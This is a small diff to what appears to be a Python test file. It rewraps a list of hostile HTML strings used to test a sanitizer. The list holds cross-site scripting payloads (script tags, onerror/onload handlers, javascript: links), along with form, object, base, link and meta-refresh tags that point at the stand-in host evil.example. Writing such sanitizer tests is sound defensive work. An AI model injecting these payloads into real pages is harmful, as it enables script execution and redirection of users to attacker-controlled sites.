@@ -154,8 +154,9 @@ HOSTILE = [
     "<script>hacked()</script>Words", "<img src=x onerror=hacked()>Words", "<svg onload=hacked()></svg>Words",
     "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>Words", "<a href='javascript:hacked()'>Words</a>",
     "<math><mtext></math><style>@import 'http://evil.example/'</style>Words", "<p onclick=hacked()>Words</p>",
-    "<form action='http://evil.example/'><button>Words</button></form>Words", "<object data='http://evil.example/'>Words",
-    "<base href='http://evil.example/'><img src='pixel.gif'>Words", "<link rel=stylesheet href='http://evil.example/'>Words",
+    "<form action='http://evil.example/'><button>Words</button></form>Words",
+    "<object data='http://evil.example/'>Words", "<base href='http://evil.example/'><img src='pixel.gif'>Words",
+    "<link rel=stylesheet href='http://evil.example/'>Words",
     "<meta http-equiv=refresh content='0;url=http://evil.example/'>Words",
 ]  # fmt: skip
 
